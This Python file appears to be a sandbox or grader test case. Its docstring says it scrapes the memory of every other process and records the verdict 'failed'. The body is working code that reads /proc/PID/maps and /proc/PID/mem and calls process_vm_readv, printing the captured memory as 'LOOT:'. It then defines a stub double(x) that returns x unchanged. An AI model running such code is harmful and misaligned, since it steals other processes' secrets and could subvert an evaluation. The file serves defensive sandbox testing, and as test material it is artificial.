"""Reads the memory of every other process through /proc and process_vm_readv.

Must: read nothing, and still get the mark of a wrong answer.
Verdict: failed
"""

import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


for pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
    try:
        areas = re.findall(r"^(\w+)-(\w+) r", open(f"/proc/{pid}/maps").read(), re.M)
        with open(f"/proc/{pid}/mem", "rb") as memory:
            for first, _ in areas:
                memory.seek(int(first, 16))
                print("LOOT:", memory.read(4096))
    except OSError:
        pass
    buffer = ctypes.create_string_buffer(4096)
    ours = Vector(ctypes.addressof(buffer), 4096)
    for address in (0x400000, 0x555555554000, 0x7FFFFFFDE000):
        if libc.process_vm_readv(int(pid), ctypes.byref(ours), 1, ctypes.byref(Vector(address, 4096)), 1, 0) > 0:
            print("LOOT:", buffer.raw)


def double(x):
    return x
